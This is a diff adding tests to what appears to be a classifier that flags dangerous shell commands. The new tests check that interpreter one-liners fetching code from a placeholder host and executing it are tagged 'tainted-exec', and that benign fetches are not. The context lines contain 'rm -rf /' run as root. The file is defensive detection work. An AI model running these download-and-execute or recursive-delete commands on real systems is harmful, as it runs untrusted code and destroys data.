@@ -291,3 +291,24 @@ def test_runner_programs_without_their_run_subcommand_are_not_wrappers(command: 
 def test_runuser_with_su_syntax_runs_its_command_string() -> None:
     assert "shell.recursive-delete" in classify("runuser -l root -c 'rm -rf /'").rule_ids
     assert "shell.recursive-delete" in classify("runuser -u root -- rm -rf /").rule_ids
+
+
+@pytest.mark.parametrize("command", [
+    "python3 -c \"exec(__import__('urllib.request').request.urlopen('http://x').read())\"",
+    "python -c 'import httpx; exec(httpx.get(\"http://x\").text)'",
+    "php -r 'eval(file_get_contents(\"http://x\"));'",
+    "pwsh -c 'iex (Invoke-WebRequest http://x).Content'",
+    "wget -qO- u | python3 -c 'import sys; exec(sys.stdin.read())'",
+])
+def test_download_cradles_inside_interpreter_code_block(command: str) -> None:
+    assert "shell.tainted-exec" in classify(command).rule_ids
+
+
+@pytest.mark.parametrize("command", [
+    "python3 -c \"import json,urllib.request; print(json.load(urllib.request.urlopen('https://x')))\"",
+    "cat local.txt | python3 -c 'import sys; exec(sys.stdin.read())'",
+    "node -e \"fetch('https://x').then(r => r.json()).then(console.log)\"",
+])
+def test_interpreter_code_that_fetches_data_or_evaluates_local_input_is_not_a_cradle(
+        command: str) -> None:
+    assert "shell.tainted-exec" not in classify(command).rule_ids
